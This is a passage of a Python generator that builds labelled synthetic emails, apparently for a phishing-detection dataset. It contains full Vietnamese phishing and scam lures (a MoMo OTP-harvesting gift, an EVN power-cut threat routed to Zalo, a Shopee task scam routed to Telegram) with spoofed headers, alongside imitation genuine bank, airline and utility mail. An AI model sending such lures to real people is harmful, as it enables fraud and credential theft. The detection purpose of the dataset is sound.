Message-ID: <{guid(stem + 'tb')}@{dom}>
Date: {format_datetime(at(d, '+0700'))}
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: vi
To: {rcpt}
From: {addr('Cục Thuế - Bộ Tài chính', f'thongbao@{dom}')}
Subject: {ew('Thông báo về việc chậm nộp hồ sơ khai thuế GTGT quý II/2025')}"""
    add(stem, "malware", "Vietnamese tax-authority late-filing notice to a company accountant from a look-alike e-tax "
        "domain, attaching a zip with a double-extension PDF-named Windows executable",
        t_postfix(rcpt, d, a, stem, "mail.anphatco.vn", "+0700"), headers, body)


def vn_momo() -> None:
    stem = f"b{N}-phish-momo-tri-an"
    d = D("2024-09-09 19:30:44 +0700")
    rcpt = "lehoangnam.hcm@gmail.com"
    dom = "momo-trian.com"
    uid = digits(stem + "uid", 8)
    mf = f"bounces+{uid}-{hx(stem + 'b', 4)}-lehoangnam.hcm=gmail.com@em2291.{dom}"
    a = Auth(mf, "149.72.154.232", f"o7.ptr3318.{dom}", f"o7.ptr3318.{dom}", "pass",
             [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "none", "NONE", dom, stem)
    url = "https://bit.ly/momo-tri-an-2024"
    html = brand_html(
        "#a50064", "MoMo", "Tri ân khách hàng thân thiết - Nhận ngay 2.000.000đ",
        ["Chào bạn,",
         "Nhân dịp kỷ niệm 10 năm ra mắt Ví MoMo, bạn là một trong <b>1.000 khách hàng thân thiết</b> được chọn "
         "nhận quà tri ân <b>2.000.000đ</b> vào ví.",
         "Quà sẽ hết hạn sau <b>24 giờ</b>. Vui lòng bấm nút bên dưới, đăng nhập Ví MoMo và nhập mã OTP để nhận quà."],
        ("Nhận quà ngay", url),
        "Công ty Cổ phần Dịch vụ Di Động Trực Tuyến (M_Service). Hotline 1900 5454 41", lang="vi")
    body = Multi("alternative", boundary(stem, "sendgrid"), [
        qp_plain(f"Chào bạn, bạn được chọn nhận quà tri ân 2.000.000đ từ Ví MoMo. Nhận quà trong 24 giờ: {url}\n"),
        qp_html(html)])
    headers = f"""{dkim(dom, 's1', stem, 'content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to', d)}
{dkim('sendgrid.info', 'smtpapi', stem, 'content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to', d)}
Received: by filterdrecv-7c6d8f9b5-hx2lp with SMTP id filterdrecv-7c6d8f9b5-hx2lp-1-66DEEA54-4
        {rfc_utc(d)}
Received: from {uid} (unknown)
	by geopod-ismtpd-15 (SG) with HTTP
	id {alnum(stem + 'sgid', 22)}
	{format_datetime(at(d, '+0000')).replace('+0000', '(UTC)')}
Date: {format_datetime(at(d, '+0000'))}
From: {addr('Ví MoMo', f'uudai@{dom}')}
Mime-Version: 1.0
Message-ID: <{alnum(stem + 'mid', 22)}@geopod-ismtpd-15>
Subject: {ew('🎁 Tri ân khách hàng: Bạn được tặng 2.000.000đ vào Ví MoMo')}
X-Feedback-ID: {uid}:SG
X-SG-EID: u001.{b64s(stem + 'eid', 140)}
To: {rcpt}"""
    add(stem, "phishing", "Vietnamese MoMo e-wallet loyalty-gift lure sent through a SendGrid account on a look-alike "
        "domain, linking via bit.ly to a MoMo login and OTP harvesting page", t_gmail(rcpt, d, a, stem), headers, body)


def vn_evn_zalo() -> None:
    stem = f"b{N}-phish-evn-cat-dien-zalo"
    d = D("2025-10-14 08:02:10 +0700")
    rcpt = "phamthilan.hn@gmail.com"
    dom = "evn-cskh.com"
    host = f"mail.{dom}"
    a = Auth(f"cskh@{dom}", "103.179.188.45", host, host, "pass", [], "none", "NONE", dom, stem)
    makh = f"PD{digits(stem + 'kh', 11)}"
    zalo = f"https://zalo.me/0{digits(stem + 'z', 9)}"
    paras = [
        '<div style="background:#003da5;color:#fff;padding:12px;font-weight:bold;">TỔNG CÔNG TY ĐIỆN LỰC TP HÀ NỘI (EVNHANOI)</div>',
        "<p>Kính gửi Quý khách hàng,</p>",
        f"<p>Mã khách hàng <b>{makh}</b> hiện còn nợ tiền điện kỳ tháng 9/2025 số tiền <b>1.846.300đ</b>.</p>",
        "<p>Theo quy định, đơn vị sẽ tiến hành <b>tạm ngừng cấp điện vào 14h00 hôm nay</b> nếu không nhận được thanh "
        "toán. Do dữ liệu hệ thống chưa đồng bộ, Quý khách vui lòng liên hệ ngay nhân viên chăm sóc khách hàng qua "
        f'Zalo để được hỗ trợ đối soát và tránh bị cắt điện: <a href="{zalo}">{zalo}</a></p>',
        "<p>Hoặc gọi trực tiếp: <b>0{} {} {}</b></p>".format(digits(stem + "p1", 3), digits(stem + "p2", 3), digits(stem + "p3", 3)),
        "<p>Trân trọng,<br>Phòng Chăm sóc khách hàng</p>",
    ]
    body = Multi("alternative", boundary(stem, "phpmailer"), [
        qp_plain(f"Mã khách hàng {makh} còn nợ tiền điện 1.846.300đ. Liên hệ Zalo để tránh bị cắt điện: {zalo}\n"),
        qp_html(kit_html(paras, lang="vi"))])
    headers = f"""{hop_local(host, d, stem, '+0700')}
Date: {format_datetime(at(d, '+0700'))}
To: {rcpt}
From: {addr('EVN - Chăm sóc khách hàng', f'cskh@{dom}')}
Subject: {ew('Thông báo tạm ngừng cấp điện do chưa thanh toán tiền điện kỳ 9/2025')}
Message-ID: {phpmailer_id(stem, dom)}
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(stem, "phishing", "Vietnamese EVN same-day power-cut threat from a look-alike domain that moves the victim to a "
        "Zalo chat and phone number (hybrid callback scam leading to a remote-control app install)",
        t_gmail(rcpt, d, a, stem), headers, body)


def vn_task_scam() -> None:
    stem = f"b{N}-phish-vn-task-scam-telegram"
    d = D("2025-07-08 11:47:36 +0700")
    rcpt = "dangthuytrang.97@gmail.com"
    sender = "tuyendung.shopee.ctv@outlook.com"
    mbx = "SEZPR03MB" + digits(stem + "mb", 4)
    a = Auth(sender, "40.92.52.97", "mail-sgaapc01olkn2097.outbound.protection.outlook.com",
             "APC01-SG2-obe.outbound.protection.outlook.com", "pass", [("outlook.com", "selector1", "pass")],
             "pass", "NONE", "outlook.com", stem)
    tg = "https://t.me/HR_Shopee_Lan_Anh"
    plain = f"""Chào bạn,

Bộ phận Nhân sự Shopee Việt Nam đang tuyển CỘNG TÁC VIÊN ONLINE làm việc tại nhà (part-time / full-time).

Công việc: đánh giá sản phẩm, tăng tương tác đơn hàng cho shop trên Shopee và Lazada bằng điện thoại.
Thu nhập: 300.000 - 1.500.000đ/ngày, thanh toán ngay sau mỗi nhiệm vụ.
Không cần kinh nghiệm, không thu phí, chỉ cần điện thoại có kết nối Internet.

Bạn nhận ngay 50.000đ thưởng khi hoàn thành nhiệm vụ đầu tiên.

Để đăng ký và nhận nhiệm vụ, vui lòng nhắn tin trực tiếp cho chuyên viên tuyển dụng qua Telegram:
{tg}

Số lượng có hạn, ưu tiên người đăng ký sớm.

Trân trọng,
Ms. Lan Anh - HR Shopee Việt Nam
"""
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">'
            '<div style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">'
            + "<br>\n".join(esc(l) if "t.me" not in l else f'<a href="{tg}">{tg}</a>' for l in plain.split("\n"))
            + "</div></body></html>")
    body = Multi("alternative", f"_000_{mbx}{hx(stem, 24, True)}_", [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim('outlook.com', 'selector1', stem, 'From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck', d)}
Received: from {mbx}.apcprd03.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}]) by {mbx}.apcprd03.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}%4]) with mapi id 15.20.8901.021; {rfc_utc(d)}
From: {addr('Shopee Tuyển Dụng', sender)}
To: {rcpt}
Subject: {ew('Tuyển cộng tác viên online Shopee - Thu nhập 300K-1.5 triệu/ngày')}
Thread-Topic: {ew('Tuyển cộng tác viên online Shopee - Thu nhập 300K-1.5 triệu/ngày')}
Thread-Index: {tindex(stem, 16, 'db')}
Date: {format_datetime(at(d, '+0000'))}
Message-ID:
 <{mbx}{hx(stem + 'omid', 28, True)}@{mbx}.apcprd03.prod.outlook.com>
Accept-Language: vi-VN, en-US
Content-Language: vi-VN
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(stem, "phishing", "Vietnamese Shopee/Lazada 'online collaborator' task scam from a free Outlook.com account, "
        "promising daily pay for order-boosting tasks and moving the victim to a Telegram recruiter",
        t_gmail(rcpt, d, a, stem), headers, body)


# ---------------------------------------------------------------------------
# LEGITIMATE - Philippines
# ---------------------------------------------------------------------------

def sfmc_headers(seed: str, d: datetime, bounce_dom: str, job: str) -> tuple[str, str]:
    """Return-Path address and Message-ID of a Salesforce Marketing Cloud send."""
    mf = f"bounce-{digits(seed + 'sb1', 4)}_HTML-{digits(seed + 'sb2', 9)}-{digits(seed + 'sb3', 7)}-{job}-{digits(seed + 'sb4', 5)}@{bounce_dom}"
    mid = f"<{guid(seed + 'sfmid')}@ind1s06mta{digits(seed + 'mta', 4)}.xt.local>"
    return mf, mid


def lg_bdo_estatement() -> None:
    stem = f"b{N}-legit-bdo-cc-estatement"
    d = D("2025-03-06 05:12:40 +0800")
    rcpt = "maricel.delosreyes@gmail.com"
    dom = "bdo.com.ph"
    a = Auth(f"estatement@{dom}", "202.57.44.196", "mx2.bdo.com.ph", "mx2.bdo.com.ph", "pass",
             [(dom, "bdo2023", "pass")], "pass", "REJECT", dom, stem)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#333;">
<table width="640" cellpadding="0" cellspacing="0" border="0" align="center">
<tr><td style="border-bottom:4px solid #f9b900;padding:12px 0;"><img src="https://www.bdo.com.ph/sites/default/files/images/bdo-logo-email.png" alt="BDO" width="90"></td></tr>
<tr><td style="padding:18px 0;">
<p>Dear MARICEL S DELOS REYES,</p>
<p>Your BDO Credit Card Statement of Account for the period ending <b>March 03, 2025</b> is now available and
attached to this email.</p>
<table cellpadding="4" cellspacing="0" border="0" style="font-size:13px;">
<tr><td>Card</td><td>: BDO Standard Mastercard ending in 4417</td></tr>
<tr><td>Statement Date</td><td>: March 03, 2025</td></tr>
<tr><td>Payment Due Date</td><td>: March 23, 2025</td></tr>
<tr><td>Total Amount Due</td><td>: PHP 12,480.55</td></tr>
<tr><td>Minimum Amount Due</td><td>: PHP 850.00</td></tr></table>
<p>Your statement is password-protected. To open the file, enter your <b>date of birth in MMDDYYYY format</b>
followed by the <b>last four (4) digits of your credit card number</b>.</p>
<p>You may pay through BDO Online Banking, the BDO Pay app, BDO ATMs or any BDO branch. For other payment
channels, visit <a href="https://www.bdo.com.ph/personal/cards/credit-cards/payment-channels">www.bdo.com.ph</a>.</p>
<p style="background:#fff7df;padding:10px;border-left:3px solid #f9b900;"><b>Stay safe online.</b> BDO will never
send you links via email or SMS asking you to log in, update your account, or share your OTP. Do not click on links
in suspicious messages. Access BDO Online Banking only by typing www.bdo.com.ph in your browser or through the official BDO app.</p>
<p>For inquiries, call our 24-hour Customer Contact Center at (+632) 8631-8000 or toll-free 1-800-10-631-8000.</p>
<p>Thank you for using your BDO Credit Card.</p>
<p style="font-size:11px;color:#777;">This is a system-generated message. Please do not reply to this email.<br>
BDO Unibank, Inc. is regulated by the Bangko Sentral ng Pilipinas. https://www.bsp.gov.ph<br>
Deposits are insured by PDIC up to P1 Million per depositor.</p>
</td></tr></table></body></html>
"""
    plain = ("Dear MARICEL S DELOS REYES,\n\nYour BDO Credit Card Statement of Account for the period ending March 03, 2025 "
             "is attached.\n\nCard: BDO Standard Mastercard ending in 4417\nPayment Due Date: March 23, 2025\nTotal Amount "
             "Due: PHP 12,480.55\nMinimum Amount Due: PHP 850.00\n\nYour statement is password-protected: date of birth "
             "(MMDDYYYY) followed by the last four digits of your card number.\n\nBDO will never send you links asking "
             "you to log in or share your OTP.\n\nCustomer Contact Center (+632) 8631-8000\n")
    body = Multi("mixed", f"----=_Part_{digits(stem, 6)}_{digits(stem + 'x', 9)}.{digits(stem + 'y', 13)}", [
        Multi("alternative", f"----=_Part_{digits(stem + 'a', 6)}_{digits(stem + 'ax', 9)}.{digits(stem + 'ay', 13)}",
              [qp_plain(plain), qp_html(html)]),
        attachment("application/pdf", "BDO_CreditCard_SOA_03032025.pdf", encrypted_pdf(stem)),
    ])
    headers = f"""{dkim(dom, 'bdo2023', stem, 'Date:From:To:Message-ID:Subject:MIME-Version:Content-Type', d)}
Received: from ccbatch04.bdo.local (unknown [10.21.8.34])
	by mx2.bdo.com.ph (Postfix) with ESMTP id {hx(stem + 'q', 10, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0800'))}
Date: {format_datetime(at(d, '+0800'))}
From: BDO Credit Card <estatement@{dom}>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 9)}.{digits(stem + 'mid2', 6)}.{ts(d)}{digits(stem + 'mid3', 3)}@ccbatch04>
Subject: Your BDO Credit Card Statement of Account - March 2025
MIME-Version: 1.0"""
    add(stem, "bulk", "Genuine BDO credit-card e-statement notice with a password-protected PDF statement, payment "
        "channels and an anti-phishing reminder, sent from BDO's own signed mail servers", t_gmail(rcpt, d, a, stem), headers, body)


def lg_gcash_receipt() -> None:
    stem = f"b{N}-legit-gcash-bills-receipt"
    d = D("2025-06-12 12:44:03 +0800")
    rcpt = "jerome.bautista.ph@gmail.com"
    dom = "gcash.com"
    sesid = f"010e0197{hx(stem + 'ses', 8)}-{guid(stem + 'sesg')}-000000"
    a = Auth(f"{sesid}@ap-southeast-1.amazonses.com", "23.251.230.17", "e230-17.smtp-out.ap-southeast-1.amazonses.com",
             "e230-17.smtp-out.ap-southeast-1.amazonses.com", "pass",
             [(dom, "gcashmail", "pass"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")], "pass", "REJECT", dom, stem)
    ref = digits(stem + "ref", 13)
    rows = [("Biller", "MERALCO"), ("Account Number", "0412 **** 88"), ("Amount", "PHP 3,482.15"),
            ("Convenience Fee", "PHP 0.00"), ("Total Amount", "PHP 3,482.15"), ("Reference No.", ref),
            ("Date &amp; Time", "Jun 12, 2025 12:43 PM")]
    table = "".join(f'<tr><td style="padding:6px 0;color:#666;">{k}</td><td style="padding:6px 0;text-align:right;'
                    f'font-weight:bold;">{v}</td></tr>' for k, v in rows)
    html = brand_html(
        "#005ce6", "GCash", "Bills Payment Successful",
        ["Hi Jerome,", "You have successfully paid your bill via GCash. Here are the details of your transaction:",
         f'<table width="100%" cellpadding="0" cellspacing="0" style="font-size:14px;">{table}</table>',
         "Please allow up to 3 working days for the biller to post your payment. Keep this receipt for your records."],
        None,
        "This is an auto-generated email. Please do not reply.<br>GCash will never ask for your MPIN or authentication "
        "code. Report suspicious messages at <a href=\"https://help.gcash.com\">help.gcash.com</a>.<br>"
        "G-Xchange, Inc. is regulated by the Bangko Sentral ng Pilipinas. https://www.bsp.gov.ph",
        logo="https://cdn.gcash.com/email/gcash-logo-white.png")
    plain = ("Hi Jerome,\n\nYou have successfully paid your bill via GCash.\n\nBiller: MERALCO\nAmount: PHP 3,482.15\n"
             f"Reference No.: {ref}\nDate & Time: Jun 12, 2025 12:43 PM\n\nGCash will never ask for your MPIN or "
             "authentication code.\n")
    body = Multi("alternative", boundary(stem, "ses"), [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim(dom, 'gcashmail', stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date', d, c='relaxed/simple')}
{dkim('amazonses.com', 'ihchhvubuqgjsxyuhssfvqohv7z3u4hn', stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date:Feedback-ID', d, c='relaxed/simple')}
From: GCash <no-reply@{dom}>
To: {rcpt}
Subject: GCash Receipt: Bills Payment to MERALCO
MIME-Version: 1.0
Message-ID: <{sesid}@ap-southeast-1.amazonses.com>
Date: {format_datetime(at(d, '+0000'))}
Feedback-ID: ::1.ap-southeast-1.{hash32(stem + 'fb')}:AmazonSES
X-SES-Outgoing: {at(d, '+0000').strftime('%Y.%m.%d')}-23.251.230.17"""
    add(stem, "bulk", "Genuine GCash bills-payment e-receipt for a Meralco bill sent through Amazon SES with gcash.com "
        "DKIM, no call to action beyond help links", t_gmail(rcpt, d, a, stem), headers, body)


def lg_cebupac() -> None:
    stem = f"b{N}-legit-cebupac-itinerary"
    d = D("2025-01-30 21:07:55 +0800")
    rcpt = "aileen.cruz_07@yahoo.com"
    dom = "cebupacificair.com"
    job = digits(stem + "job", 8)
    mf, mid = sfmc_headers(stem, d, f"bounce.email.{dom}", job)
    a = Auth(mf, "13.111.61.148", f"mta.email.{dom}", f"mta.email.{dom}", "pass",
             [(f"email.{dom}", "200608", "pass")], "pass", "QUARANTINE", dom, stem)
    pnr = upper_alnum(stem + "pnr", 6)
    manage = f"https://click.email.{dom}/?qs={hx(stem + 'qs', 96)}"
    html = brand_html(
        "#005daa", "Cebu Pacific", f"Your booking is confirmed! Booking reference: {pnr}",
        ["Hi AILEEN,", "Thank you for flying with Cebu Pacific! Here is your itinerary.",
         '<table width="100%" cellpadding="6" cellspacing="0" style="border:1px solid #dfe6ee;font-size:13px;">'
         '<tr style="background:#eef4fa;"><td><b>Flight</b></td><td><b>From</b></td><td><b>To</b></td></tr>'
         '<tr><td>5J 561</td><td>Manila (MNL) T3<br>Fri, 14 Feb 2025 06:10</td><td>Cebu (CEB)<br>Fri, 14 Feb 2025 07:35</td></tr>'
         '<tr><td>5J 568</td><td>Cebu (CEB)<br>Mon, 17 Feb 2025 19:45</td><td>Manila (MNL) T3<br>Mon, 17 Feb 2025 21:10</td></tr></table>',
         "<b>Guests:</b> MS AILEEN CRUZ, MR PAOLO CRUZ<br><b>Add-ons:</b> 20kg baggage (x2), Seat selection",
         "<b>Total paid:</b> PHP 7,846.00 (Visa ending 2281)",
         "Online check-in opens 48 hours before departure. Please be at the airport at least 2 hours before your flight."],
        ("Manage Booking", manage),
        "Cebu Air, Inc., Cebu Pacific Building, Domestic Road, Barangay 191, Zone 20, Pasay City 1301, Philippines.<br>"
        "You received this email because you made a booking at cebupacificair.com. "
        f'<a href="https://click.email.{dom}/?qs={hx(stem + "pp", 96)}">Privacy Policy</a>',
        logo=f"https://image.email.{dom}/lib/fe3611717164047f751170/m/1/cebu-pacific-logo.png")
    html = html.replace("</body>", f'<img src="https://click.email.{dom}/open.aspx?ffcb10-{hx(stem + "op", 40)}" width="1" height="1" alt="">\n</body>')
    plain = (f"Hi AILEEN,\n\nYour booking is confirmed! Booking reference: {pnr}\n\n5J 561 Manila (MNL) - Cebu (CEB) "
             "Fri 14 Feb 2025 06:10-07:35\n5J 568 Cebu (CEB) - Manila (MNL) Mon 17 Feb 2025 19:45-21:10\n\nTotal paid: "
             f"PHP 7,846.00\n\nManage booking: {manage}\n")
    body = Multi("alternative", f"----=_Part_{digits(stem, 7)}_{digits(stem + 'x', 10)}.{digits(stem + 'y', 13)}",
                 [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim('email.' + dom, '200608', stem, 'From:To:Subject:Date:MIME-Version:Content-Type:Message-ID:Reply-To:List-Unsubscribe', d)}
Received: by mta.email.{dom} id {hx(stem + 'rid', 11)} for <{rcpt}>; {format_datetime(at(d, '-0600'))} (envelope-from <{mf}>)
From: Cebu Pacific <noreply@{dom}>
To: <{rcpt}>
Subject: Your Cebu Pacific booking is confirmed - {pnr}
Date: {format_datetime(at(d, '-0600'))}
MIME-Version: 1.0
Reply-To: Cebu Pacific <reply-{hx(stem + 'rp', 16)}@email.{dom}>
List-Unsubscribe: <https://click.email.{dom}/subscription_center.aspx?jwt={b64s(stem + 'jwt', 60).replace('/', '_').replace('+', '-')}>
x-job: {digits(stem + 'mid', 7)}_{job}
Message-ID: {mid}
X-SFMC-Stack: 51
Feedback-ID: {digits(stem + 'fbid', 7)}:{job}:13.111.61.148:sfmktgcld"""
    add(stem, "bulk", "Genuine Cebu Pacific booking confirmation and itinerary sent through Salesforce Marketing Cloud "
        "with the airline's signed email subdomain and tracked manage-booking links", t_yahoo(rcpt, d, a, stem), headers, body)


def lg_ofw_sister() -> None:
    stem = f"b{N}-legit-ofw-sister-taglish"
    d = D("2024-12-15 22:31:09 +0800")
    rcpt = "lorna.santos1968@gmail.com"
    sender = "jhoanna.santos.dxb@gmail.com"
    a = Auth(sender, "209.85.220.41", "mail-sor-f41.google.com", "mail-sor-f41.google.com", "pass",
             [("gmail.com", "20230601", "pass")], "pass", "NONE", "gmail.com", stem)
    paras = [
        "Hi Ma,", "",
        "Napadala ko na po kanina yung pang-tuition ni Bunso through Remitly, 25,000 pesos. Diretso na sa BDO account "
        "niyo, dapat pumasok na yan bukas ng umaga. Paki-check na lang po tapos i-chat niyo ako pag nareceive na.", "",
        "Yung natira po, pambayad sa Meralco tsaka sa pang-Noche Buena. Wag niyo na po ipadala kay Tita Baby ha, sabi ko "
        "naman next month na lang yung sa kanya.", "",
        "Attached po yung picture namin nung company Christmas party dito sa Dubai. Si Rose yung katabi ko, yung "
        "kasama ko sa flat.", "",
        "Ingat po kayo palagi. Video call tayo sa Sabado, 9PM diyan.", "",
        "Love,", "Jhoanna",
    ]
    plain = "\n".join(paras) + "\n"
    photo = files.photo_jpeg(44)
    body = Multi("mixed", "000000000000" + hx(stem + "mx", 16), [
        alt(stem, qp_plain(plain), qp_html(gmail_html(paras))),
        Leaf("image/jpeg", photo, "base64", '; name="IMG_20241213_203155.jpg"',
             'attachment; filename="IMG_20241213_203155.jpg"',
             [f"X-Attachment-Id: f_m4p{alnum(stem + 'att', 6).lower()}0", f"Content-ID: <f_m4p{alnum(stem + 'att', 6).lower()}0>"]),
    ])
    headers = f"""{dkim('gmail.com', '20230601', stem, 'to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to', d)}
X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=1e100.net; s=20230601; t={ts(d)}; x={ts(d) + 604800};
        h=to:subject:message-id:date:from:mime-version:x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;
        bh={hash32(stem + 'xgbh')};
        b={fold(sig256(stem + 'xgb'), 68, '        ')}
X-Gm-Message-State: {b64s(stem + 'gms', 64)}
{gx_received(stem, d)}
MIME-Version: 1.0
From: Jhoanna Santos <{sender}>
Date: {format_datetime(at(d, '+0400'))}
Message-ID: {gmail_mid(stem)}
Subject: Pinadala ko na Ma + pics
To: Mama <{rcpt}>"""
    add(stem, "clean", "Personal Taglish email from an OFW daughter in Dubai telling her mother a Remitly transfer was sent, "
        "with a holiday photo attached", t_gmail(rcpt, d, a, stem, google_sender=True), headers, body)


def lg_meralco_ebill() -> None:
    stem = f"b{N}-legit-meralco-ebill"
    d = D("2025-08-14 06:30:12 +0800")
    rcpt = "admin@lakesidebakeshop.ph"
    dom = "meralco.com.ph"
    uid = digits(stem + "uid", 8)
    mf = f"bounces+{uid}-{hx(stem + 'b', 4)}-admin=lakesidebakeshop.ph@em5121.{dom}"
    a = Auth(mf, "168.245.38.21", f"o2.ptr6231.{dom}", f"o2.ptr6231.{dom}", "pass",
             [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", "QUARANTINE", dom, stem)
    acct = "0412" + digits(stem + "acct", 6)
    click = f"https://url1730.{dom}/ls/click?upn=u001.{b64s(stem + 'upn', 110).replace('/', '-').replace('+', '_')}"
    html = brand_html(
        "#ff6600", "Meralco", "Your Meralco bill is ready",
        ["Dear Valued Customer,",
         f"Your electric bill for the billing period <b>July 12 - August 11, 2025</b> for Customer Account Number "
         f"<b>{acct[:4]} {acct[4:7]} {acct[7:]}</b> is now available. A PDF copy is attached.",
         '<table cellpadding="4" style="font-size:14px;"><tr><td>Amount Due</td><td><b>&#8369;18,742.60</b></td></tr>'
         "<tr><td>Due Date</td><td><b>August 26, 2025</b></td></tr><tr><td>kWh used</td><td>1,326</td></tr></table>",
         "You can pay through the Meralco Mobile App, Meralco Online, your bank&#8217;s online banking or mobile app, "
         "GCash, Maya and authorized payment centers."],
        ("View and Pay on Meralco Online", click),
        "Manila Electric Company, Lopez Building, Ortigas Avenue, Barangay Ugong, Pasig City.<br>Meralco will never ask "
        "you to pay through personal accounts or QR codes sent by email or SMS. Verify your bill on Meralco Online or "
        "call Meralco Hotline 16211.<br>You are receiving this because you enrolled in Meralco Paperless Billing.")
    pdfdata = files.pdf(["MANILA ELECTRIC COMPANY", "STATEMENT OF ACCOUNT", f"Customer Account No. {acct}",
                         "Billing Period: 12 Jul 2025 - 11 Aug 2025", "Total Amount Due: PHP 18,742.60",
                         "Due Date: 26 Aug 2025"], title="Meralco Bill")
    body = Multi("mixed", boundary(stem, "sendgrid"), [
        Multi("alternative", boundary(stem + "a", "sendgrid"), [
            qp_plain(f"Dear Valued Customer,\n\nYour Meralco bill for July 12 - August 11, 2025 (CAN {acct}) is ready.\n"
                     "Amount Due: PHP 18,742.60\nDue Date: August 26, 2025\n\nMeralco Hotline 16211\n"), qp_html(html)]),
        attachment("application/pdf", f"MeralcoBill_{acct}_202508.pdf", pdfdata),
    ])
    headers = f"""{dkim(dom, 's1', stem, 'content-type:from:mime-version:subject:list-unsubscribe:list-unsubscribe-post:x-feedback-id:to:cc:content-type:from:subject:to', d)}
{dkim('sendgrid.info', 'smtpapi', stem, 'content-type:from:mime-version:subject:list-unsubscribe:list-unsubscribe-post:x-feedback-id:to:cc:content-type:from:subject:to', d)}
Received: by filterdrecv-84b96456cb-m7xtz with SMTP id filterdrecv-84b96456cb-m7xtz-1-689D1A24-12
        {rfc_utc(d)}
Received: from {uid} (unknown)
	by geopod-ismtpd-31 (SG) with HTTP
	id {alnum(stem + 'sgid', 22)}
	{format_datetime(at(d, '+0000')).replace('+0000', '(UTC)')}
Date: {format_datetime(at(d, '+0000'))}
From: Meralco <ebill@{dom}>
Mime-Version: 1.0
Message-ID: <{alnum(stem + 'mid', 22)}@geopod-ismtpd-31>
Subject: Your Meralco e-Bill for August 2025 is ready
List-Unsubscribe: <https://url1730.{dom}/asm/unsubscribe/?user_id={uid}&data={alnum(stem + 'unsub', 40)}>, <mailto:unsubscribe@{dom}?subject=unsubscribe>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
X-Feedback-ID: {uid}:SG
X-SG-EID: u001.{b64s(stem + 'eid', 140)}
To: {rcpt}"""
    add(stem, "bulk", "Genuine Meralco paperless e-bill notification with the PDF bill attached, sent through SendGrid "
        "with Meralco's branded link domain and one-click unsubscribe", t_m365(rcpt, d, a, stem, ctry="US"), headers, body)


def lg_bir2316_hr() -> None:
    stem = f"b{N}-legit-bir2316-from-hr"
    d = D("2026-01-26 16:20:44 +0800")
    rcpt = "cristina.yap@sunrisefreight.com.ph"
    smbx = "SI2PR03MB" + digits(stem + "smb", 4) + ".apcprd03.prod.outlook.com"
    paras = [
        "Hi Tina,", "",
        "Attached is your <b>BIR Form 2316</b> (Certificate of Compensation Payment / Tax Withheld) for calendar year 2025. "
        "Since you are qualified for substituted filing, you no longer need to file an ITR yourself.", "",
        "The file is password-protected. The password is your <b>employee number</b> followed by your "
        "<b>birth year</b> (e.g. SFC0123-1990).", "",
        "Kindly print two copies, sign both on the employee signature line, and drop them at the HR office on the "
        "3rd floor on or before <b>February 6</b>. We will submit the signed copies to the BIR together with the "
        "alphalist.", "",
        "If any of the figures look off (esp. 13th month and de minimis), just reply to this email and we will check "
        "with Payroll.", "",
        "Thanks!",
    ]
    sig = "Mae Villanueva\nHR &amp; Admin Officer\nSunrise Freight Services, Inc.\nLocal 114"
    body = Multi("mixed", f"_004_{smbx.split('.')[0]}{hx(stem, 24, True)}_", [
        Multi("alternative", f"_000_{smbx.split('.')[0]}{hx(stem, 24, True)}_", [
            text("Hi Tina,\n\nAttached is your BIR Form 2316 for calendar year 2025. The file is password-protected: "
                 "employee number followed by birth year (e.g. SFC0123-1990).\n\nKindly print two copies, sign both and "
                 "drop them at the HR office on or before February 6.\n\nThanks!\n\nMae Villanueva\nHR & Admin Officer\n",
                 "plain", "quoted-printable", "us-ascii"),
            qp_html(outlook_html(paras, sig))]),
        attachment("application/pdf", "2316_2025_YAP_CRISTINA.pdf", encrypted_pdf(stem)),
    ])
    headers = f"""From: Mae Villanueva <mae.villanueva@sunrisefreight.com.ph>
To: Cristina Yap <{rcpt}>
Subject: BIR Form 2316 for CY 2025 - for signature
Thread-Topic: BIR Form 2316 for CY 2025 - for signature
Thread-Index: {tindex(stem, 16, 'dc')}
Date: {format_datetime(at(d, '+0000'))}
Message-ID:
 <{smbx.split('.')[0]}{hx(stem + 'omid', 28, True)}@{smbx}>
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(stem, "clean", "Internal HR email delivering an employee's BIR Form 2316 as a password-protected PDF with "
        "signing instructions, sent within the company's Microsoft 365 tenant",
        t_m365_internal(rcpt, d, stem, smbx, region="apcprd03"), headers, body)


# ---------------------------------------------------------------------------
# LEGITIMATE - Indonesia
# ---------------------------------------------------------------------------

def lg_bca_notif() -> None:
    stem = f"b{N}-legit-bca-transfer-notif"
    d = D("2025-02-03 19:02:17 +0700")
    rcpt = "dewi.anggraini91@gmail.com"
    dom = "bca.co.id"
